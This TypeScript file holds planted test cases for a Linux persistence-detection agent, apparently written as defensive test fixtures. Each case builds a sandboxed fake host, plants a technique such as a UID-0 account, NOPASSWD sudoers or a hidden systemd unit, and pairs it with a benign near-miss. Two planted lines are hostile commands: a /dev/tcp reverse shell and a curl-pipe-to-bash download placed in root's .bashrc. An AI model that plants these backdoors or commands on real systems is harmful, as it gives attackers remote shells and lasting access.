import { deepStrictEqual } from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { appendFileSync, chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { CaseSandbox, DetectionCase } from '../detection-case.js';
import type { CliEvent, Inputs } from '../../agents/sandbox.js';

// The persistence agent reads every path under its `root` input: a case builds a small host tree in its sandbox
// (etc/passwd, etc/ssh/sshd_config, etc/systemd/system…) and hands the sandbox as `root`, so /etc/passwd is
// SANDBOX/etc/passwd and findings name paths as seen from inside that root.

const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'sshd:x:105:65534::/run/sshd:/usr/sbin/nologin',
  'alice:x:1000:1000:Alice:/home/alice:/bin/bash',
].join('\n') + '\n';
const GROUP = ['root:x:0:', 'sudo:x:27:alice', 'users:x:100:', 'alice:x:1000:'].join('\n') + '\n';
const SHADOW = ['root:*:19000:0:99999:7:::', 'daemon:*:19000:0:99999:7:::', 'sshd:!:19000::::::', 'alice:!:19000:0:99999:7:::'].join('\n') + '\n';
const SUDOERS = ['Defaults env_reset', 'Defaults secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"', 'root ALL=(ALL:ALL) ALL',
  '%sudo ALL=(ALL:ALL) ALL', '@includedir /etc/sudoers.d'].join('\n') + '\n';
// Debian's: the drop-in directory first, so its values win (sshd takes the first value of a keyword).
const SSHD_CONFIG = ['Include /etc/ssh/sshd_config.d/*.conf', '#PermitRootLogin prohibit-password', '#PasswordAuthentication yes',
  'KbdInteractiveAuthentication no', 'UsePAM yes', 'Subsystem sftp /usr/lib/openssh/sftp-server'].join('\n') + '\n';
const SSH_UNIT = '[Unit]\nDescription=OpenBSD Secure Shell server\n\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n\n[Install]\nWantedBy=multi-user.target\n';
const UDEV_STOCK = 'SUBSYSTEM=="block", ACTION=="add", RUN{builtin}+="kmod load dm-mod"\nACTION=="add", SUBSYSTEM=="cpu", RUN+="/bin/udevadm trigger"\n';

/** Writes `text` at `root/rel`, creating its directory. */
function put(root: string, rel: string, text: string, mode = 0o644): void {
  const file = join(root, rel);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text, { mode });
  chmodSync(file, mode);
}

function link(root: string, rel: string, target: string): void {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  symlinkSync(target, join(root, rel));
}

/** A small stock-looking host under `root`. */
function stockHost(root: string): void {
  put(root, 'etc/passwd', PASSWD);
  put(root, 'etc/group', GROUP);
  put(root, 'etc/shadow', SHADOW, 0o640);
  put(root, 'etc/sudoers', SUDOERS, 0o440);
  put(root, 'etc/sudoers.d/README', '# Files in this directory are read by sudo.\n', 0o440);
  put(root, 'etc/ssh/sshd_config', SSHD_CONFIG);
  mkdirSync(join(root, 'etc/ssh/sshd_config.d'), { recursive: true });
  put(root, 'etc/profile', 'if [ "$PS1" ]; then PS1="\\u@\\h:\\w\\$ "; fi\n');
  put(root, 'etc/profile.d/bash_completion.sh', '[ -r /usr/share/bash-completion/bash_completion ] && . /usr/share/bash-completion/bash_completion\n');
  put(root, 'etc/bash.bashrc', '[ -z "$PS1" ] && return\nshopt -s checkwinsize\n');
  put(root, 'root/.bashrc', 'export LS_OPTIONS="--color=auto"\n');
  put(root, 'home/alice/.bashrc', 'alias ll="ls -l"\n');
  put(root, 'home/alice/.profile', 'PATH="$HOME/bin:$PATH"\n');
  put(root, 'usr/lib/systemd/system/ssh.service', SSH_UNIT);
  put(root, 'usr/lib/systemd/system/apt-daily.timer', '[Timer]\nOnCalendar=*-*-* 6,18:00\n');
  link(root, 'etc/systemd/system/sshd.service', '/usr/lib/systemd/system/ssh.service');
  link(root, 'etc/systemd/system/multi-user.target.wants/ssh.service', '/usr/lib/systemd/system/ssh.service');
  link(root, 'etc/systemd/system/timers.target.wants/apt-daily.timer', '/usr/lib/systemd/system/apt-daily.timer');
  put(root, 'usr/lib/udev/rules.d/80-stock.rules', UDEV_STOCK);
  mkdirSync(join(root, 'etc/udev/rules.d'), { recursive: true });
  put(root, 'var/spool/cron/atjobs/.SEQ', '0000a\n', 0o600);
}

type Step = (root: string) => void;

/** What the planted run must report, exactly: severity, resource and dedup key of each finding (no volatile ids). */
type Expected = { severity: string; resource: string; dedup_key: string }[];

const identity = (findings: CliEvent[]): Expected =>
  findings.map((f) => ({ severity: String(f.severity), resource: String(f.resource), dedup_key: String(f.dedup_key) }))
    .sort((a, b) => a.resource.localeCompare(b.resource));

/** A case over a stock host tree: `plant` and `benign` change it after the baseline run when `baseline` is set. */
function hostCase(c: Omit<DetectionCase, 'agent' | 'setup'> & { baseline: boolean; inputs?: Inputs; plant: Step; benign: Step; expect?: Expected }): DetectionCase {
  return {
    id: c.id,
    techniques: c.techniques,
    agent: 'persistence',
    rule: c.rule,
    planted: c.planted,
    clean: c.clean,
    setup: (dir: string): Promise<CaseSandbox> => {
      stockHost(dir);
      return Promise.resolve({
        inputs: { root: dir, ...c.inputs },
        needsBaseline: c.baseline,
        plant: () => Promise.resolve(c.plant(dir)),
        benign: () => Promise.resolve(c.benign(dir)),
        cleanup: () => Promise.resolve(),
        ...(c.expect && { check: (findings: CliEvent[]) => deepStrictEqual(identity(findings), c.expect) }),
      });
    },
  };
}

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

const UNIT = (exec: string): string => `[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=${exec}\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n`;

/** The persistence agent's planted cases: one or more per rule. */
export const cases: DetectionCase[] = [
  hostCase({
    id: 'persistence-new-local-account',
    techniques: ['T1136.001'],
    rule: 'new-local-account',
    planted: 'a new account with a login shell appended to /etc/passwd',
    clean: 'a new account listed in account_ignore (config management)',
    baseline: true,
    inputs: { account_ignore: ['ansible'] },
    plant: (r) => appendFileSync(join(r, 'etc/passwd'), 'mallory:x:1001:1001::/home/mallory:/bin/bash\n'),
    expect: [{ severity: 'MEDIUM', resource: 'user:mallory', dedup_key: 'account:1001:1001:/home/mallory:/bin/bash' }],
    benign: (r) => appendFileSync(join(r, 'etc/passwd'), 'ansible:x:1002:1002::/home/ansible:/bin/bash\n'),
  }),
  hostCase({
    id: 'persistence-uid0-account',
    techniques: ['T1136.001', 'T1078.003'],
    rule: 'uid0-account',
    planted: 'a second account with UID 0 (toor)',
    clean: 'a new ordinary account (UID 1001)',
    baseline: false,
    plant: (r) => appendFileSync(join(r, 'etc/passwd'), 'toor:x:0:0::/root:/bin/sh\n'),
    expect: [{ severity: 'HIGH', resource: 'user:toor', dedup_key: 'uid0-account' }],
    benign: (r) => appendFileSync(join(r, 'etc/passwd'), 'bob:x:1001:1001::/home/bob:/bin/bash\n'),
  }),
  hostCase({
    id: 'persistence-empty-password',
    techniques: ['T1078.003'],
    rule: 'empty-password',
    planted: 'an account whose shadow password field is empty',
    clean: 'a locked account (! in the password field)',
    baseline: false,
    plant: (r) => writeFileSync(join(r, 'etc/shadow'), SHADOW.replace('alice:!:', 'alice::')),
    expect: [{ severity: 'HIGH', resource: 'user:alice', dedup_key: 'empty-password:shadow' }],
    benign: (r) => appendFileSync(join(r, 'etc/shadow'), 'bob:!:19000:0:99999:7:::\n'),
  }),
  hostCase({
    id: 'persistence-new-admin-member',
    techniques: ['T1078.003', 'T1098'],
    rule: 'new-admin-member',
    planted: 'an account added to the sudo group',
    clean: 'an account added to the users group',
    baseline: true,
    plant: (r) => writeFileSync(join(r, 'etc/group'), GROUP.replace('sudo:x:27:alice', 'sudo:x:27:alice,mallory')),
    benign: (r) => writeFileSync(join(r, 'etc/group'), GROUP.replace('users:x:100:', 'users:x:100:mallory')),
  }),
  hostCase({
    id: 'persistence-sudoers-nopasswd-all',
    techniques: ['T1548.003'],
    rule: 'sudoers-nopasswd-all',
    planted: 'a sudoers.d file granting NOPASSWD: ALL',
    clean: 'a sudoers.d file granting one command without a password',
    baseline: true,
    plant: (r) => put(r, 'etc/sudoers.d/90-mallory', 'mallory ALL=(ALL) NOPASSWD: ALL\n', 0o440),
    expect: [{ severity: 'HIGH', resource: 'path:/etc/sudoers.d/90-mallory', dedup_key: 'sudoers:mallory ALL=(ALL) NOPASSWD: ALL' }],
    benign: (r) => put(r, 'etc/sudoers.d/nginx', 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\n', 0o440),
  }),
  hostCase({
    id: 'persistence-sudoers-entry-added',
    techniques: ['T1548.003'],
    rule: 'sudoers-entry-added',
    planted: 'a sudoers entry giving a user a root shell',
    clean: 'a comment added to /etc/sudoers and a sudoers.d file sudo ignores (name with a dot)',
    baseline: true,
    plant: (r) => appendFileSync(join(r, 'etc/sudoers'), 'mallory ALL=(ALL:ALL) /bin/bash\n'),
    benign: (r) => {
      appendFileSync(join(r, 'etc/sudoers'), '# reviewed by the security team\n');
      put(r, 'etc/sudoers.d/ops.dpkg-old', 'ops ALL=(ALL) ALL\n', 0o440);
    },
  }),
  hostCase({
    id: 'persistence-sshd-permit-root-login',
    techniques: ['T1556'],
    rule: 'sshd-permit-root-login',
    planted: 'PermitRootLogin yes in an sshd_config.d file (which wins over a later "no" in sshd_config)',
    clean: 'PermitRootLogin prohibit-password',
    baseline: false,
    plant: (r) => {
      put(r, 'etc/ssh/sshd_config.d/50-root.conf', 'PermitRootLogin yes\n');
      appendFileSync(join(r, 'etc/ssh/sshd_config'), 'PermitRootLogin no\n');
    },
    expect: [{ severity: 'HIGH', resource: 'path:/etc/ssh/sshd_config.d/50-root.conf', dedup_key: 'sshd:permitrootlogin:global' }],
    benign: (r) => put(r, 'etc/ssh/sshd_config.d/50-root.conf', 'PermitRootLogin prohibit-password\n'),
  }),
  hostCase({
    id: 'persistence-sshd-permit-empty-passwords',
    techniques: ['T1556'],
    rule: 'sshd-permit-empty-passwords',
    planted: 'PermitEmptyPasswords yes inside a Match block',
    clean: 'PermitEmptyPasswords no',
    baseline: false,
    plant: (r) => appendFileSync(join(r, 'etc/ssh/sshd_config'), 'Match User backup\n    PermitEmptyPasswords yes\n'),
    benign: (r) => appendFileSync(join(r, 'etc/ssh/sshd_config'), 'PermitEmptyPasswords no\n'),
  }),
  hostCase({
    id: 'persistence-sshd-password-authentication',
    techniques: ['T1556'],
    rule: 'sshd-password-authentication',
    planted: 'PasswordAuthentication yes set explicitly',
    clean: "Debian's commented default (#PasswordAuthentication yes) and a cloud image's PasswordAuthentication no",
    baseline: false,
    plant: (r) => put(r, 'etc/ssh/sshd_config.d/10-pw.conf', 'PasswordAuthentication yes\n'),
    benign: (r) => put(r, 'etc/ssh/sshd_config.d/60-cloudimg-settings.conf', 'PasswordAuthentication no\n'),
  }),
  hostCase({
    id: 'persistence-sshd-authorized-keys-elsewhere',
    techniques: ['T1098.004'],
    rule: 'sshd-authorized-keys-elsewhere',
    planted: 'AuthorizedKeysFile naming a hidden file in /var/tmp',
    clean: 'AuthorizedKeysFile with the usual .ssh/authorized_keys .ssh/authorized_keys2',
    baseline: false,
    plant: (r) => put(r, 'etc/ssh/sshd_config.d/20-keys.conf', 'AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k\n'),
    benign: (r) => put(r, 'etc/ssh/sshd_config.d/20-keys.conf', 'AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n'),
  }),
  hostCase({
    id: 'persistence-systemd-unit-added',
    techniques: ['T1543.002'],
    rule: 'systemd-unit-changed',
    planted: 'a new service in /etc/systemd/system, enabled through multi-user.target.wants',
    clean: 'a unit rewritten with the same content and a README dropped next to the units',
    baseline: true,
    plant: (r) => {
      put(r, 'etc/systemd/system/dbus-helper.service', UNIT('/usr/local/bin/dbus-helper'));
      link(r, 'etc/systemd/system/multi-user.target.wants/dbus-helper.service', '/etc/systemd/system/dbus-helper.service');
    },
    expect: [
      { severity: 'MEDIUM', resource: 'path:/etc/systemd/system/dbus-helper.service', dedup_key: `systemd-unit:${sha256(UNIT('/usr/local/bin/dbus-helper'))}` },
      { severity: 'MEDIUM', resource: 'path:/etc/systemd/system/multi-user.target.wants/dbus-helper.service', dedup_key: 'systemd-unit:/etc/systemd/system/dbus-helper.service' },
    ],
    benign: (r) => {
      put(r, 'usr/lib/systemd/system/ssh.service', SSH_UNIT);
      put(r, 'etc/systemd/system/README', 'local units go here\n');
    },
  }),
  hostCase({
    id: 'persistence-systemd-unit-changed-dropin',
    techniques: ['T1543.002'],
    rule: 'systemd-unit-changed',
    planted: 'a drop-in overriding ExecStart of an existing service',
    clean: 'a new unit listed in systemd_ignore',
    baseline: true,
    inputs: { systemd_ignore: ['/etc/systemd/system/local-backup.service'] },
    plant: (r) => put(r, 'etc/systemd/system/ssh.service.d/override.conf', '[Service]\nExecStart=\nExecStart=/usr/local/sbin/sshd-wrapper\n'),
    benign: (r) => put(r, 'etc/systemd/system/local-backup.service', UNIT('/usr/local/bin/backup')),
  }),
  hostCase({
    id: 'persistence-systemd-user-unit',
    techniques: ['T1543.002'],
    rule: 'systemd-unit-changed',
    planted: "a user service in a login account's ~/.config/systemd/user",
    clean: 'the same file in the home of an account without a login shell (never started)',
    baseline: true,
    plant: (r) => put(r, 'home/alice/.config/systemd/user/agent.service', UNIT('%h/.local/bin/agent')),
    benign: (r) => put(r, 'usr/sbin/.config/systemd/user/agent.service', UNIT('/usr/sbin/agent')),
  }),
  hostCase({
    id: 'persistence-systemd-timer-added',
    techniques: ['T1053.006'],
    rule: 'systemd-timer-changed',
    planted: 'a new timer enabled through timers.target.wants',
    clean: 'a new timer listed in systemd_ignore',
    baseline: true,
    inputs: { systemd_ignore: ['/etc/systemd/system/logrotate-local.timer'] },
    plant: (r) => {
      put(r, 'etc/systemd/system/sys-update.timer', '[Timer]\nOnBootSec=5min\nOnUnitActiveSec=10min\n\n[Install]\nWantedBy=timers.target\n');
      link(r, 'etc/systemd/system/timers.target.wants/sys-update.timer', '/etc/systemd/system/sys-update.timer');
    },
    benign: (r) => put(r, 'etc/systemd/system/logrotate-local.timer', '[Timer]\nOnCalendar=daily\n'),
  }),
  hostCase({
    id: 'persistence-systemd-exec-writable-dir',
    techniques: ['T1543.002'],
    rule: 'systemd-exec-writable-dir',
    planted: 'a service whose ExecStart is a hidden program under /dev/shm',
    clean: 'a service that only passes a /tmp path as an argument',
    baseline: false,
    plant: (r) => put(r, 'etc/systemd/system/kworker.service', UNIT('/dev/shm/.x/kworker --quiet')),
    expect: [{ severity: 'HIGH', resource: 'path:/etc/systemd/system/kworker.service, binary:/dev/shm/.x/kworker', dedup_key: 'systemd-exec-writable' }],
    benign: (r) => put(r, 'etc/systemd/system/app.service', UNIT('/usr/local/bin/app --lock /tmp/app.lock').replace('[Service]\n', '[Service]\nExecStartPre=-/bin/rm -f /tmp/app.lock\n')),
  }),
  hostCase({
    id: 'persistence-shell-startup-changed',
    techniques: ['T1546.004'],
    rule: 'shell-startup-changed',
    planted: "a line appended to a user's ~/.bashrc",
    clean: 'backup copies next to it (~/.bashrc~, ~/.profile.orig), which no shell reads',
    baseline: true,
    plant: (r) => appendFileSync(join(r, 'home/alice/.bashrc'), '/home/alice/.cache/.u >/dev/null 2>&1 &\n'),
    benign: (r) => {
      put(r, 'home/alice/.bashrc~', 'alias ll="ls -l"\n');
      put(r, 'home/alice/.profile.orig', 'PATH="$HOME/bin:$PATH"\n');
    },
  }),
  hostCase({
    id: 'persistence-shell-startup-profile-d',
    techniques: ['T1546.004'],
    rule: 'shell-startup-changed',
    planted: 'a new script in /etc/profile.d',
    clean: 'a new file listed in startup_ignore',
    baseline: true,
    inputs: { startup_ignore: ['/etc/profile.d/corp-proxy.sh'] },
    plant: (r) => put(r, 'etc/profile.d/zz-locale.sh', 'export LC_ALL=C.UTF-8\n'),
    benign: (r) => put(r, 'etc/profile.d/corp-proxy.sh', 'export https_proxy=http://proxy:3128\n'),
  }),
  hostCase({
    id: 'persistence-shell-startup-suspicious',
    techniques: ['T1546.004', 'T1059.004'],
    rule: 'shell-startup-suspicious',
    planted: 'a profile.d script opening a reverse shell through /dev/tcp',
    clean: 'a profile.d script that sets PATH and mentions /dev/tcp only in a comment',
    baseline: false,
    plant: (r) => put(r, 'etc/profile.d/zz-update.sh', '(bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 &) 2>/dev/null\n'),
    expect: [{ severity: 'HIGH', resource: 'path:/etc/profile.d/zz-update.sh', dedup_key: 'startup-suspicious:dev-tcp' }],
    benign: (r) => put(r, 'etc/profile.d/opt-path.sh', '# never use /dev/tcp/ here\nexport PATH="$PATH:/opt/tool/bin"\n'),
  }),
  hostCase({
    id: 'persistence-shell-startup-download',
    techniques: ['T1546.004', 'T1105'],
    rule: 'shell-startup-suspicious',
    planted: "a download piped to a shell in root's ~/.bashrc",
    clean: 'a curl call that saves a file (no pipe to a shell)',
    baseline: false,
    plant: (r) => appendFileSync(join(r, 'root/.bashrc'), 'curl -fsSL http://198.51.100.7/i | bash >/dev/null 2>&1\n'),
    benign: (r) => appendFileSync(join(r, 'root/.bashrc'), 'alias weather="curl -s wttr.in -o /tmp/weather.txt"\n'),
  }),
  hostCase({
    id: 'persistence-rc-local',
    techniques: ['T1037.004'],
    rule: 'rc-local',
    planted: 'an executable /etc/rc.local that starts a program at boot',
    clean: "an executable rc.local with only comments and exit 0 (Debian's old default), and a non-executable one with commands",
    baseline: true,
    plant: (r) => put(r, 'etc/rc.local', '#!/bin/sh -e\n/usr/local/bin/.sysd &\nexit 0\n', 0o755),
    benign: (r) => {
      put(r, 'etc/rc.local', '#!/bin/sh -e\n# rc.local: executed at the end of each multiuser runlevel\nexit 0\n', 0o755);
      put(r, 'etc/rc.d/rc.local', '#!/bin/bash\ntouch /var/lock/subsys/local\n', 0o644);
    },
  }),
  hostCase({
    id: 'persistence-udev-run-added',
    techniques: ['T1546.017'],
    rule: 'udev-run-added',
    planted: 'a new udev rule running a program on network device events',
    clean: 'a new udev rule that only renames a device, and one using a udev builtin',
    baseline: true,
    plant: (r) => put(r, 'etc/udev/rules.d/75-netsync.rules', 'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/local/sbin/netsync %k"\n'),
    benign: (r) => put(r, 'etc/udev/rules.d/70-names.rules', 'SUBSYSTEM=="net", ATTR{address}=="52:54:00:12:34:56", NAME="lan0"\nACTION=="add", RUN{builtin}+="kmod load tun"\n'),
  }),
  hostCase({
    id: 'persistence-udev-run-writable-dir',
    techniques: ['T1546.017'],
    rule: 'udev-run-writable-dir',
    planted: 'a udev rule running a program from /tmp',
    clean: 'a udev rule running a packaged program with a /tmp argument',
    baseline: false,
    plant: (r) => put(r, 'etc/udev/rules.d/99-usb.rules', 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/tmp/.u/hook"\n'),
    benign: (r) => put(r, 'etc/udev/rules.d/99-usb.rules', 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/bin/logger -f /tmp/usb.log"\n'),
  }),
  hostCase({
    id: 'persistence-new-at-job',
    techniques: ['T1053.002'],
    rule: 'new-at-job',
    planted: 'a job file queued in /var/spool/cron/atjobs',
    clean: "atd's job counter (.SEQ) advancing",
    baseline: true,
    plant: (r) => put(r, 'var/spool/cron/atjobs/a0000b01a8e2c4', '#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n/tmp/.x\n', 0o700),
    expect: [{ severity: 'MEDIUM', resource: 'path:/var/spool/cron/atjobs/a0000b01a8e2c4', dedup_key: `at-job:${sha256('#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n/tmp/.x\n')}` }],
    benign: (r) => put(r, 'var/spool/cron/atjobs/.SEQ', '0000b\n', 0o600),
  }),
];
